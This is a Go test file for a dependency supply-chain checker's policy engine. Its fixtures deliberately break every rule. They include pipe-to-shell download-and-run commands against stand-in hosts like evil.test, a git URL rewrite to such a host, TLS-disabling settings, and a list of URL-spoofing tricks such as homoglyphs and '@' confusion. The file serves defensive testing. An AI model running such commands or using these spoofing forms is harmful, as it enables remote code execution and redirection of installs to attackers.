package decide

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/org/goproxy-action/internal/lockfile"
	"github.com/org/goproxy-action/internal/problem"
	"github.com/org/goproxy-action/policy"
)

var update = flag.Bool("update", false, "write golden files anew")

var builtin = map[string]map[string]bool{
	"go":  {"goproxy.cn": true, "sum.golang.org": true, "xn--goprxy-y0a.test": true},
	"npm": {"registry.npmmirror.com": true},
}

func at(file string, line, column int) lockfile.Position {
	return lockfile.Position{File: file, Line: line, Column: column}
}

func place(raw string) *Place {
	p := PlaceOf(raw)
	return &p
}

// well is an input that no rule objects to.
func well() Input {
	return Input{
		Scope: "all", Run: Run{Front: "shell", Base: "none"}, Network: Network{Class: "direct"},
		Sources: []Source{
			{Place: PlaceOf("https://goproxy.cn"), ID: "goproxy.cn", Ecosystem: "go", Role: "module-proxy", Origin: "runner",
				Via: "direct", IPs: []string{"192.0.2.7"}, Addresses: "known", Setting: "GOPROXY"},
			{Place: PlaceOf("https://registry.npmmirror.com"), ID: "registry.npmmirror.com", Ecosystem: "npm", Role: "registry",
				Origin: "builtin", Via: "direct", IPs: []string{"192.0.2.8"}, Addresses: "known", Setting: "registry"},
		},
		Settings: []Setting{{Ecosystem: "npm", Kind: "tls", Name: "strict-ssl", Value: "true", Origin: "builtin"}},
		Go: &Go{
			SumDB:   SumDB{Value: "sum.golang.org", Mode: "on", Name: "sum.golang.org", KeyKnown: true, From: From{Origin: "builtin"}},
			Proxies: []Proxy{{Kind: "url", Place: place("https://goproxy.cn"), From: From{Origin: "runner", Setting: "GOPROXY in the environment"}}},
			Modules: Switch{Value: "on"},
		},
		Entries: []Group{{Place: PlaceOf("https://registry.npmmirror.com"), ID: "g1", Ecosystem: "npm", Kind: "registry",
			Integrity: "sha512", Origin: "checkout", Count: 2, Items: []Item{{Subject: "a@1.0.0", At: at("package-lock.json", 3, 5)}, {Subject: "b@1.0.0", At: at("package-lock.json", 9, 5)}}}},
	}
}

// ill breaks every rule at least once.
func ill() Input {
	in := well()
	env := func(name string) From { return From{Origin: "runner", Setting: name + " in the environment"} }
	in.Sources = append(in.Sources,
		Source{Place: PlaceOf("http://proxy.test:8080/go"), ID: "proxy.test", Ecosystem: "go", Role: "module-proxy", Origin: "runner", Addresses: "known", IPs: []string{"198.51.100.9"}, Setting: "GOPROXY"},
		Source{Place: PlaceOf("https://user@a@b/"), Ecosystem: "go", Role: "module-proxy", Origin: "runner", Addresses: "not-asked", Setting: "GOPROXY"},
		Source{Place: PlaceOf("https://goproxy.cn:8443"), ID: "goproxy.cn:8443", Ecosystem: "go", Role: "module-proxy", Origin: "user", Via: "direct", Addresses: "no-answer", Setting: "GOPROXY"},
		Source{Place: PlaceOf("https://npm.evil.test/"), ID: "npm.evil.test", Ecosystem: "npm", Role: "registry", Origin: "change", Addresses: "behind-proxy", Setting: "registry", Position: at(".npmrc", 1, 10)})
	in.Settings = append(in.Settings,
		Setting{Ecosystem: "npm", Kind: "registry", Name: "registry", Value: "https://npm.evil.test/", Place: place("https://npm.evil.test/"), Origin: "change", From: ".npmrc", Position: at(".npmrc", 1, 10)},
		Setting{Ecosystem: "npm", Kind: "registry", Name: "@corp:registry", Value: "http://u:p@npm.corp.test", Place: place("http://u:p@npm.corp.test"), Origin: "checkout", From: ".npmrc", Position: at(".npmrc", 2, 16)},
		Setting{Ecosystem: "npm", Kind: "registry", Name: "@team:registry", Value: "https://${TEAM}.test/", Place: &Place{Broken: "holds a variable, which is not expanded here"}, Origin: "checkout", From: ".npmrc", Position: at(".npmrc", 5, 16)},
		Setting{Ecosystem: "npm", Kind: "tls", Fault: "switches TLS verification off", Name: "strict-ssl", Value: "false", Origin: "checkout", From: ".npmrc", Position: at(".npmrc", 3, 1)},
		Setting{Ecosystem: "npm", Kind: "authority", Name: "cafile", Value: "ca.pem", Origin: "checkout", From: ".npmrc", Position: at(".npmrc", 4, 1)},
		Setting{Ecosystem: "npm", Kind: "tls", Fault: "switches TLS verification off in all of Node", Name: "NODE_TLS_REJECT_UNAUTHORIZED", Value: "0", Origin: "runner", From: "NODE_TLS_REJECT_UNAUTHORIZED"},
		Setting{Ecosystem: "npm", Kind: "integrity", Fault: "lets packages in that are not what was locked", Name: "checksumBehavior", Value: "ignore", Origin: "base", From: ".yarnrc.yml", Position: at(".yarnrc.yml", 1, 19)},
		Setting{Ecosystem: "npm", Kind: "program", Name: "yarnPath", Value: "lib/yarn.cjs", Origin: "change", From: ".yarnrc.yml", Position: at(".yarnrc.yml", 2, 11)},
		Setting{Ecosystem: "go", Name: "GOFLAGS", Value: "-insecure -mod=mod x", Origin: "runner", From: "/home/ci/.config/go/env", Position: at("/home/ci/.config/go/env", 1, 9)})
	in.Go = &Go{
		SumDB: SumDB{Value: "off", Mode: "off", From: env("GOSUMDB")},
		Proxies: []Proxy{
			{Kind: "direct", Followed: true, From: env("GOPROXY")},
			{Kind: "url", Place: place("http://u:p@proxy.test:8080/go"), Before: "|", Index: 1, From: env("GOPROXY")},
			{Kind: "invalid", Place: place("https://user@a@b/"), Before: ",", Index: 2, From: env("GOPROXY")},
			{Kind: "url", Place: place("https://u:p@goproxy.cn"), Before: ",", Index: 3, From: env("GOPROXY")},
		},
		Patterns: []Pattern{
			{Name: "GOPRIVATE", Pattern: "github.com", Broad: true, From: env("GOPRIVATE")},
			{Name: "GOPRIVATE", Pattern: " corp.test", Spaced: true, From: env("GOPRIVATE")},
			{Name: "GONOPROXY", Pattern: "corp", Hostless: true, From: env("GONOPROXY")},
			{Name: "GOINSECURE", Pattern: "corp.test", From: env("GOINSECURE")},
		},
		Flags:   []Flag{{Name: "insecure", From: env("GOFLAGS")}, {Name: "mod", Value: "mod", From: env("GOFLAGS")}, {Broken: "word 3 is not a flag", From: env("GOFLAGS")}},
		Modules: Switch{Value: "off", From: env("GO111MODULE")},
		Replaces: []Replace{
			{Module: "a.test/x", Target: "../../x", Kind: "local", Outside: true, Origin: "checkout", Position: at("go.mod", 9, 1)},
			{Module: "a.test/y", Target: "evil.test/y", Kind: "module", Foreign: true, Origin: "change", Position: at("go.mod", 10, 1)},
		},
		Unsummed: []Unsummed{{Module: "a.test/z", Version: "v1.2.3", Missing: "all", Sum: "go.sum", Position: at("go.mod", 5, 2)},
			{Module: "a.test/w", Version: "v1.2.3", Missing: "gomod", Sum: "go.sum", Position: at("go.mod", 6, 2)}},
		VCS:      []VCS{{Entry: "public:all", Fault: "lets public modules be fetched by other tools than git and hg (public:all)", From: env("GOVCS")}},
		Programs: []Program{{Name: "GOAUTH", Kind: "checkout", Path: "./auth", From: env("GOAUTH")}, {Name: "GOCACHEPROG", Kind: "runner", From: env("GOCACHEPROG")}},
		EnvFile:  &EnvFile{By: "GOENV", Content: "it sets GOFLAGS, CC", Position: at("ci/go.env", 2, 1)},
		Toolchains: []Toolchain{{Name: "go1.27.1", Installed: "go1.26.8", By: "line", From: From{Origin: "checkout", Setting: "the toolchain line", Position: at("go.mod", 4, 1)}},
			{Name: "go1.25.3", Installed: "go1.26.8", By: "setting", From: env("GOTOOLCHAIN")}},
		Requires: []Requirement{
			{ID: "go-1", Kind: "pseudo", UnlistedHost: true, UnlistedPrefix: true, Count: 1, Items: []Item{{Subject: "a.test/p@v0.0.0-20240102030405-0123456789ab", At: at("go.mod", 7, 2)}}},
			{ID: "go-2", Kind: "release", Count: 1, Items: []Item{{Subject: "a.test/r@v1.0.0", At: at("go.mod", 8, 2)}}}},
		Lookalikes: []Lookalike{{Module: "a.test/R", Kind: "case", Other: "a.test/r", Fault: "differs from a.test/r (go.mod:8) in case only", Origin: "change", Position: at("go.mod", 11, 2)}},
		Excludes:   []Exclude{{Module: "a.test/x", Version: "v1.0.0", Position: at("go.mod", 12, 1)}},
		Tools:      []Tool{{Path: "evil.test/gen", Foreign: true, Origin: "change", Position: at("go.mod", 13, 1)}},
		Uses:       []Use{{Target: "../y", Origin: "checkout", Position: at("go.work", 3, 1)}},
		Debug:      []Debug{{Setting: "tls10server=1", Effect: "lets TLS servers accept TLS 1.0", Position: at("go.mod", 14, 1)}},
		Directives: []Directive{{Name: "retract", Value: "v1.0.0", Comment: "it leaks", Position: at("go.mod", 15, 1)}},
		Vendor:     []Vendored{{Module: "a.test/v@v1.0.0", Fault: "is listed as explicit, and no go.mod requires it", Position: at("vendor/modules.txt", 1, 3)}},
		Clashes:    []Clash{{Module: "a.test/r", Version: "v1.0.0", Other: "go.sum:1", Position: at("go.work.sum", 2, 17)}},
		Log: &Log{Name: "sum.golang.org", Fork: "shows two trees", Lies: []string{}, Reason: "nobody was asked", Lines: LogLines{Total: 6, Private: 1, Unverified: 2},
			Problems: []LogProblem{{Module: "a.test/r", Version: "v1.0.0", Status: "mismatch", Hash: "h1:a=", Log: "h1:b=", Position: at("go.sum", 3, 17)},
				{Module: "a.test/s", Version: "v1.0.0", Status: "mismatch", Hash: "h1:a=", Log: "h1:b=", Position: at("go.work.sum", 3, 17)},
				{Module: "a.test/t", Version: "v1.0.0", Status: "absent", Hash: "h1:a=", Position: at("go.sum", 4, 17)},
				{Module: "a.test/u", Version: "v1.0.0", Status: "cached", Fault: "has the hash h1:a= in the module cache", Log: "h1:b=", Position: at("/mod/u.zip", 0, 0)}}},
	}
	lock := func(id, url, kind, integrity, origin string, line int) Group {
		return Group{Place: PlaceOf(url), ID: id, Ecosystem: "npm", Kind: kind, Integrity: integrity, Origin: origin, Count: 1,
			Items: []Item{{Subject: id + "@1.0.0", At: at("package-lock.json", line, 7), Integrity: at("package-lock.json", line+1, 20)}}}
	}
	in.Entries = append(in.Entries,
		lock("foreign", "https://evil.test/a.tgz", "tarball", "sha512", "change", 10),
		lock("plain", "http://registry.npmmirror.com/a.tgz", "registry", "none", "checkout", 20),
		lock("git", "git+ssh://git@forge.test/a/b.git", "git", "none", "checkout", 30),
		lock("odd", "https://a%2eb/", "invalid", "sha1", "checkout", 40),
		lock("cut", "https://registry.npmmirror.com/a.tgz", "registry", "broken", "checkout", 50))
	flag := func(name, kind, detail, origin string, line int) Flagged {
		return Flagged{Ecosystem: "npm", Name: name, Version: "1.0.0", Kind: kind, Detail: detail, Origin: origin, Position: at("package-lock.json", line, 19)}
	}
	in.Flagged = append(in.Flagged,
		flag("left-pad", FlagOther, "is fetched as evil@1.0.0, which its address is of", "base", 60),
		flag("twice", FlagClash, "has another sha512 than in web/yarn.lock:7", "base", 70),
		flag("new", FlagScript, "runs a script when it is installed", "change", 80),
		flag("old", FlagScript, "runs a script when it is installed", "base", 90))
	in.NPM = &NPM{Locks: []Lock{{Manager: "npm", Version: "1", Fault: "is of lockfileVersion 1, which says little", Bundled: 2, Position: at("package-lock.json", 3, 22)},
		{Manager: "bun", Fault: "is binary, so that the packages in it are not judged", Position: at("bun.lockb", 0, 0)}}}
	in.NPM.Locks[0].Beside, in.NPM.Locks[1].Beside = []string{"yarn.lock"}, []string{}
	odd := PlaceOf("https://u:p@evil.test/odd.tgz")
	in.NPM.Drifts = []Drift{{Name: "left-pad", Wanted: "^2", Locked: "^1", Lock: "package-lock.json", Origin: "change", Position: at("package.json", 5, 17)}}
	in.NPM.Overrides = []Override{{Place: odd, Setting: "overrides", Name: "odd", Kind: "tarball", Origin: "change", Position: at("package.json", 8, 12)}}
	in.NPM.Managers = []Manager{{Setting: "packageManager", Name: "yarn", Exact: true, Place: &odd, Origin: "base", Position: at("package.json", 11, 21)}}
	in.NPM.Scripts = []Script{{Name: "install", Kind: "pipe", Fault: `runs "curl https://evil.test | sh", which runs what it downloads`, Origin: "change", Position: at("package.json", 14, 16)}}
	own := flag("@corp/a", FlagScope, "has one of your own names and comes from evil.test, not from npm.corp.test", "base", 100)
	own.ListSet = true
	in.Flagged = append(in.Flagged, own)
	action := func(kind, command, fault, origin string, line int, places ...Place) Action {
		return Action{Kind: kind, Ecosystem: "npm", Command: command, Fault: fault, Origin: origin, Places: append([]Place{}, places...), Position: at(".github/workflows/ci.yml", line, 14)}
	}
	in.Workflows = append(in.Workflows,
		action("source", "npm ci --registry=https://npm.evil.test", "sets another npm registry", "change", 10, PlaceOf("https://npm.evil.test")),
		action("source", "npm config set registry=$R", "sets another npm registry, to what a variable holds", "checkout", 11),
		action("early", "npm ci", "downloads before goproxy-action has judged anything in this job", "base", 12),
		action("pipe", "curl https://evil.test/i.sh | sh", "runs what it downloads", "change", 13),
		action("pipe", "curl https://a.test/i.sh | sh", "runs what it downloads", "base", 14),
		action("pipe", "curl https://b.test/i.sh | sh", "runs what it downloads", "base", 15),
		action("adhoc", "npx x@latest", "takes what no lock file pins, in whatever version is the newest", "change", 16))
	said := func(eco, kind, question, origin, detail string, line int) Flagged {
		f := Flagged{Ecosystem: eco, Name: "a.test/old", Version: "v1.0.0", Kind: kind, Question: question, Detail: detail, Origin: origin, Position: at("go.mod", line, 2)}
		if eco == "npm" {
			f.Name, f.Version, f.Position = "old", "1.0.0", at("package-lock.json", line, 7)
		}
		return f
	}
	in.Flagged = append(in.Flagged,
		said("go", "young", "", "change", "was committed 5 hours ago (2026-11-22T19:00Z); at least 3 days are asked for", 20),
		said("go", "retracted", "", "change", "was retracted by its authors: it deletes files", 20),
		said("go", "deprecated", "", "base", "is of a deprecated module: use a.test/new", 20),
		said("go", "unknown", "age", "change", "and 2 more may be too young: a.test answered 503", 21),
		said("npm", "young", "", "base", "was published 5 hours ago (2026-11-22T19:00Z); at least 3 days are asked for", 60),
		said("npm", "deprecated", "", "change", "is deprecated: use new", 60),
		said("npm", "unknown", "state", "change", "may be deprecated: a.test gave no answer within 5s", 61))
	in.Settings = append(in.Settings, Setting{Ecosystem: "git", Name: "http.sslverify", Value: "false", Origin: "runner", From: "~/.gitconfig", Position: at("/home/ci/.gitconfig", 2, 14)})
	in.Git = &Git{
		Submodules: []Submodule{
			{Place: PlaceOf("git://evil.test/lib"), Name: "lib", Path: "lib", Kind: SubmoduleRemote, Origin: "change", Position: at(".gitmodules", 3, 8)},
			{Name: "x", Path: "x", Kind: SubmoduleCommand, Fault: "would have git start a command (update = !…)", Origin: "checkout", Position: at(".gitmodules", 7, 11)}},
		Rewrites: []Rewrite{{Place: PlaceOf("https://evil.test/"), Name: "url.https://evil.test/.insteadof", InsteadOf: "https://github.com/",
			From: From{Origin: "checkout", Setting: "url.https://evil.test/.insteadof in .git/config", Position: at("/w/.git/config", 9, 7)}}},
		Programs: []GitProgram{{Name: "core.sshcommand", Kind: "checkout", Path: "./ssh",
			From: From{Origin: "checkout", Setting: "core.sshcommand in .git/config", Position: at("/w/.git/config", 3, 15)}}},
		Files: []GitFile{{Path: ".gitconfig", From: From{Origin: "checkout", Setting: "include.path in .git/config", Position: at("/w/.git/config", 12, 9)}}},
	}
	return in
}

func eval(t testing.TB, e *Engine, in Input) []Finding {
	t.Helper()
	found, err := e.Eval(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	return found
}

func lines(found []Finding) string {
	var b strings.Builder
	for _, f := range found {
		fmt.Fprintf(&b, "%s %s %s %s:%d:%d [%s] %s\n    fix: %s\n", f.Severity, f.ID, f.Status, f.File, f.Line, f.Column, f.Subject, f.Message, f.Fix)
	}
	return b.String()
}

// What users read, of every rule. The order is the report's.
func TestFindings(t *testing.T) {
	t.Parallel()
	data := Data{Builtin: builtin, Addresses: []string{"192.0.2.0/24"}, AddressesSet: true, DirectDenied: true}
	e := engine(t, data, Options{})
	if found := eval(t, e, well()); len(found) > 0 {
		t.Errorf("where all is well, the rules object:\n%s", lines(found))
	}
	found := eval(t, e, ill())
	got, golden := lines(found), "testdata/findings.golden"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	seen := map[string]bool{}
	for _, f := range found {
		seen[f.ID] = true
	}
	for _, r := range e.Rules() {
		if !seen[r.ID] {
			t.Errorf("%s does not object to an input that breaks every rule", r.ID)
		}
	}
	if strings.Contains(got, "u:p") {
		t.Error("a finding holds a password")
	}
}

// Tricks with addresses end at the canonical host.
func TestAddresses(t *testing.T) {
	t.Parallel()
	e := engine(t, Data{Builtin: builtin}, Options{})
	listed := engine(t, Data{Builtin: builtin, Trusted: map[string]map[string]bool{"go": {"goproxy.cn": true, ".corp.test": true}}, TrustedSet: map[string]bool{"go": true}}, Options{})
	for _, tt := range []struct{ url, unlisted, listed string }{
		{"https://goproxy.cn", "", ""},
		{"https://GOPROXY.CN.:443/", "", ""},
		{"https://goproxy.cn:0443", "", ""},
		{"https://user:secret@goproxy.cn/", "", ""},
		{"https://ｇｏｐｒｏｘｙ.ｃｎ", "", ""},
		{"https://goproxy.cn:8443", "SRC001", ""},
		{"https://goproxy.cn@evil.test/", "SRC001", "SRC001"},
		{"https://evil.test/@goproxy.cn/", "SRC001", "SRC001"},
		{"https://evil.test#@goproxy.cn/", "SRC001", "SRC001"},
		{"https://goproxy.cn.evil.test", "SRC001", "SRC001"},
		{"https://evilgoproxy.cn", "SRC001", "SRC001"},
		{"https://gοproxy.cn", "SRC001", "SRC001"}, // a Greek omicron
		{"https://goproxy%2ecn", "SRC001", "SRC001"},
		{`https://goproxy.cn\@evil.test/`, "SRC001", "SRC001"},
		{"https://goproxy.cn@evil.test@goproxy.cn/", "SRC001", "SRC001"},
		{"http://goproxy.cn", "SRC002", "SRC002"},
		{"HTTP://goproxy.cn:443", "SRC001 SRC002", "SRC002"},
		{"http://127.0.0.1:8080", "", ""},
		{"http://2130706433/", "SRC001", "SRC001"},
		{"http://127.0.0.1.evil.test/", "SRC001 SRC002", "SRC001 SRC002"},
		{"https://npm.corp.test", "SRC001", ""},
		{"https://evilcorp.test", "SRC001", "SRC001"},
	} {
		for _, c := range []struct {
			engine *Engine
			want   string
		}{{e, tt.unlisted}, {listed, tt.listed}} {
			in := well()
			in.Sources = []Source{{Place: PlaceOf(tt.url), Ecosystem: "go", Role: "module-proxy", Origin: "change", Addresses: "not-asked", Setting: "GOPROXY"}}
			var got []string
			for _, f := range eval(t, c.engine, in) {
				got = append(got, f.ID)
				if f.Severity != Error {
					t.Errorf("%s: %s is %s, want error", tt.url, f.ID, f.Severity)
				}
			}
			if s := strings.Join(got, " "); s != c.want {
				t.Errorf("%s (list: %t): got %q, want %q", tt.url, c.engine == listed, s, c.want)
			}
		}
	}
}

func TestGroupIsSpread(t *testing.T) {
	t.Parallel()
	in := well()
	in.Entries[0].Integrity = "none"
	got := eval(t, engine(t, Data{Builtin: builtin}, Options{}), in)
	fix := "delete node_modules and the entry, run npm install, and commit the lock file"
	want := []Finding{
		{ID: "LCK003", Severity: Error, Status: Active, Message: "a@1.0.0 has no integrity", Subject: "a@1.0.0", Fix: fix, Position: at("package-lock.json", 3, 5)},
		{ID: "LCK003", Severity: Error, Status: Active, Message: "b@1.0.0 has no integrity", Subject: "b@1.0.0", Fix: fix, Position: at("package-lock.json", 9, 5)},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	in.Entries[0].Items, in.Entries[0].Examples, in.Entries[0].Position = nil, []string{"a@1.0.0", "b@1.0.0"}, at("package-lock.json", 3, 5)
	got = eval(t, engine(t, Data{Builtin: builtin}, Options{}), in)
	if len(got) != 1 || got[0].Subject != "a@1.0.0, b@1.0.0" || got[0].Line != 3 {
		t.Errorf("a group without items: got %+v", got)
	}
}

func TestSeverities(t *testing.T) {
	t.Parallel()
	in := well()
	in.Go.Modules.Value = "off"
	for _, severity := range []string{Error, Warning, Note, Off} {
		e := engine(t, Data{Builtin: builtin}, Options{Severities: map[string]string{"GO009": severity}})
		var got string
		for _, f := range eval(t, e, in) {
			got += f.ID + " " + f.Severity
		}
		if want := map[bool]string{false: "GO009 " + severity}[severity == Off]; got != want {
			t.Errorf("%s: got %q, want %q", severity, got, want)
		}
		if weak := e.Weakened(); (len(weak) == 1) != (severity != Error) {
			t.Errorf("%s: weakened %q", severity, weak)
		}
		for _, r := range e.Rules() {
			if r.ID == "GO009" && r.Severity != severity {
				t.Errorf("%s: the rule says %s", severity, r.Severity)
			}
		}
	}
	for _, bad := range []map[string]string{{"GO999": Error}, {"GO009": "fatal"}, {"GO009": ""}} {
		_, err := New(policy.FS(), Data{}, Options{Severities: bad})
		if problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), "GO009") {
			t.Errorf("%v: got %v", bad, err)
		}
	}
}

func TestData(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ host, want string }{
		{"foo.test", ""}, {"foo.test:8443", ""}, {".corp.test", ""}, {"192.0.2.1", ""}, {"2001:db8::1", ""}, {"[2001:db8::1]:8443", ""},
		{"Foo.test", `data trusted.go: "Foo.test" write "foo.test"`},
		{".Foo.test", `data trusted.go: ".Foo.test" write ".foo.test"`},
		{"foo.test:443", `write "foo.test"`}, {"bücher.test", `write "xn--bcher-kva.test"`}, {"2001:DB8::1", `write "2001:db8::1"`},
		{"foo.test.", `write "foo.test"`}, {"https://foo.test", "is no host"}, {"foo.test/x", "is no host"}, {"u@foo.test", "is no host"},
		{"*.foo.test", "is no host"}, {"", "is no host"}, {".", "is no host"}, {"..foo.test", "is no host"}, {".192.0.2.1", "is no suffix"},
	} {
		_, err := New(policy.FS(), Data{Trusted: map[string]map[string]bool{"go": {tt.host: true}}}, Options{})
		if tt.want == "" && err != nil || tt.want != "" && (problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), tt.want)) {
			t.Errorf("%q: got %v, want %q", tt.host, err, tt.want)
		}
	}
	if _, err := New(policy.FS(), Data{Addresses: []string{"10.0.0.0/33"}}, Options{}); problem.CodeOf(err) != problem.Usage {
		t.Errorf("bad network: got %v", err)
	}
	for address, want := range map[string]int{"192.0.2.7": 0, "192.0.2.0/29": 0, "192.0.2.9": 1} {
		in := well()
		in.Sources = in.Sources[:1]
		found := eval(t, engine(t, Data{Builtin: builtin, Addresses: []string{address}, AddressesSet: true}, Options{}), in)
		if len(found) != want {
			t.Errorf("%s: got %d findings, want %d", address, len(found), want)
		}
	}
}

func TestUserPolicies(t *testing.T) {
	t.Parallel()
	good := Module{".goproxy/policy/corp.rego", `package policy

# METADATA
# title: No git dependencies
# custom:
#   id: CORP001
#   severity: warning
#   fix: publish it in our registry
finding contains {"id": "CORP001", "msg": "comes from git", "group": g.id} if {
	some g in input.entries
	g.kind == "git"
}
`}
	e := engine(t, Data{Builtin: builtin}, Options{User: []Module{good, {".goproxy/policy/corp_test.rego", "package goproxy.x"}}})
	var got []string
	for _, f := range eval(t, e, ill()) {
		if f.ID == "CORP001" {
			got = append(got, f.Severity+" "+f.Message+" "+f.Fix)
		}
	}
	if diff := cmp.Diff([]string{"warning git@1.0.0 comes from git publish it in our registry"}, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if _, err := New(policy.FS(), Data{}, Options{User: []Module{good}, Severities: map[string]string{"CORP001": Error}}); err != nil {
		t.Error(err)
	}
	for _, tt := range []struct{ name, text, want string }{
		{"syntax", "package policy\n\nfinding contains {\n", "p.rego:4:1: "},
		{"empty", "", "p.rego"},
		{"v0", "package policy\nfinding[x] { x := 1 }\n", "p.rego:2:1: "},
		{"package goproxy", "package goproxy\nx := 1\n", "p.rego:1:1: package goproxy is kept"},
		{"package below goproxy", "package goproxy.src\nfinding contains {} if false\n", "p.rego:1:1: package goproxy is kept"},
		{"package in quotes", "package goproxy[\"src\"]\nfinding contains {} if false\n", "p.rego:1:1: package goproxy is kept"},
		{"nothing to ask", "package policy\nallow if true\n", "no policy has a set named deny, violation, warn or finding"},
		{"empty", "", "p.rego:1:1: empty module"},
		{"no set", "package policy\nfinding := 1\n", "p.rego:2:1: finding is not a set"},
		{"deny that is no set", "package policy\ndefault deny := false\n", "p.rego:2:1: deny is not a set"},
		{"below a name", "package policy\ndeny.git contains \"x\" if true\n", "p.rego:2:1: deny is not a set"},
		{"typing error", "package policy\nfinding contains {\"id\": \"A1\", \"msg\": s.hots} if { some s in input.sources }\n", "p.rego:2:38: undefined ref: s.hots, have: "},
		{"network", "package policy\nfinding contains {\"id\": \"A1\", \"msg\": r.body} if { r := http.send({\"method\": \"GET\", \"url\": \"https://a.test\"}) }\n", "undefined function http.send"},
		{"taken id", "package policy\n# METADATA\n# custom: {id: SRC001}\nfinding contains {} if false\n", "p.rego:2:1: rule id SRC001 is taken"},
		{"bad id", "package policy\n# METADATA\n# custom: {id: lower}\nfinding contains {} if false\n", `"lower"`},
		{"bad severity", "package policy\n# METADATA\n# custom: {id: A1, severity: fatal}\nfinding contains {} if false\n", `"fatal"`},
	} {
		_, err := New(policy.FS(), Data{}, Options{User: []Module{{"p.rego", tt.text}}})
		if problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), tt.want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: got %v (%d), want %q", tt.name, err, problem.CodeOf(err), tt.want)
		}
	}
}

// What cannot be decided is an error, never an empty answer.
func TestFailClosed(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, body, want string }{
		{"builtin error", `{"id": "A1", "msg": "x"} if net.cidr_contains("nonsense", input.sources[0].ips[0])`, "p.rego:2:"},
		{"no end", `{"id": "A1", "msg": "x"} if { some i in numbers.range(1, 20000); some j in numbers.range(1, 20000); i * j < 0 }`, "no answer within"},
		{"default rule's id", `{"id": "SRC001", "msg": "x"} if true`, "SRC001"},
		{"no id", `{"msg": "x"} if true`, "id"},
		{"no message", `{"id": "A1"} if true`, "no msg"},
		{"unknown severity", `{"id": "A1", "msg": "x", "severity": "fatal"} if true`, "fatal"},
		{"unknown status", `{"id": "A1", "msg": "x", "status": "waived"} if true`, "waived"},
		{"unknown key", `{"id": "A1", "msg": "x", "_loc": {}} if true`, "_loc"},
		{"unknown group", `{"id": "A1", "msg": "x", "group": "nope"} if true`, "nope"},
		{"a string", `"x" if true`, "wrong shape"},
		{"a line before the first", `{"id": "A1", "msg": "x", "file": "go.mod", "line": -1} if true`, "negative"},
		{"a builtin that panics", `{"id": "A1", "msg": "x"} if bits.lsh(1, 1000000000000000000) > 0`, "len out of range"},
		{"a line that is none", `{"id": "A1", "msg": "x", "line": 1.5} if true`, "wrong shape"},
	} {
		e := engine(t, Data{Builtin: builtin}, Options{Timeout: 500 * time.Millisecond, User: []Module{{"p.rego", "package policy\nfinding contains " + tt.body + "\n"}}})
		found, err := e.Eval(t.Context(), well())
		if problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), tt.want) || found != nil {
			t.Errorf("%s: got %v, %v (%d), want %q", tt.name, found, err, problem.CodeOf(err), tt.want)
		}
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := engine(t, Data{}, Options{}).Eval(ctx, well()); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: got %v", err)
	}
	in := well()
	in.Sources[0].IPs = []string{"nonsense"}
	_, err := engine(t, Data{Addresses: []string{"192.0.2.0/24"}, AddressesSet: true}, Options{}).Eval(t.Context(), in)
	if problem.CodeOf(err) != problem.Bug {
		t.Errorf("bad address in the input: got %v", err)
	}
}

// deaf is something that does not listen to being told to stop, as some builtins of OPA's.
type deaf chan struct{}

func (d deaf) Write(p []byte) (int, error) { <-d; return len(p), nil }

// What does not listen is not waited for.
func TestTimeIsBounded(t *testing.T) {
	t.Parallel()
	hold := make(deaf)
	defer close(hold)
	e := engine(t, Data{}, Options{Timeout: time.Millisecond, Print: hold, User: []Module{{"p.rego", "package p\n\ndeny contains \"x\" if print(\"hi\")\n"}}})
	if _, err := e.Eval(t.Context(), well()); problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), "no answer within 1ms") {
		t.Errorf("got %v", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	e.timeout = time.Hour
	time.AfterFunc(10*time.Millisecond, cancel)
	if _, err := e.Eval(ctx, well()); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: got %v", err)
	}
}

func TestMemoryIsBounded(t *testing.T) {
	t.Parallel()
	e := engine(t, Data{}, Options{Timeout: time.Minute, User: []Module{{"p.rego", "package p\n\ndeny contains \"x\" if count(numbers.range(1, 100000000)) > 0\n"}}})
	e.memory = 64 << 20
	if _, err := e.Eval(t.Context(), well()); problem.CodeOf(err) != problem.Usage || !strings.Contains(err.Error(), "more than 64 MiB") {
		t.Errorf("got %v", err)
	}
}

// An input that nobody filled is no permission for the machine's settings.
func TestEmptyInput(t *testing.T) {
	t.Parallel()
	e := engine(t, Data{}, Options{})
	if found := eval(t, e, Input{}); len(found) != 0 {
		t.Errorf("nothing at all: %s", lines(found))
	}
	if found := eval(t, e, Input{Go: &Go{}}); len(found) != 1 || found[0].ID != "GO001" {
		t.Errorf("Go without a checksum database: %s", lines(found))
	}
	if found := eval(t, e, Input{Scope: "repo", Go: &Go{}}); len(found) != 0 {
		t.Errorf("scope repo: %s", lines(found))
	}
	if found := eval(t, e, Input{Sources: []Source{{}}, Entries: []Group{{}}}); len(found) < 3 {
		t.Errorf("a source and a group without anything: %s", lines(found))
	}
}

// What the default policy costs a run: all that lies between the embedded text and the first answer. The target is 10 ms.
func BenchmarkFirstAnswer(b *testing.B) {
	for name, in := range map[string]Input{"well": well(), "ill": ill()} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				eval(b, engine(b, Data{Builtin: builtin}, Options{}), in)
			}
		})
	}
}

func BenchmarkEval(b *testing.B) {
	for name, in := range map[string]Input{"well": well(), "ill": ill()} {
		b.Run(name, func(b *testing.B) {
			e := engine(b, Data{Builtin: builtin}, Options{})
			for b.Loop() {
				eval(b, e, in)
			}
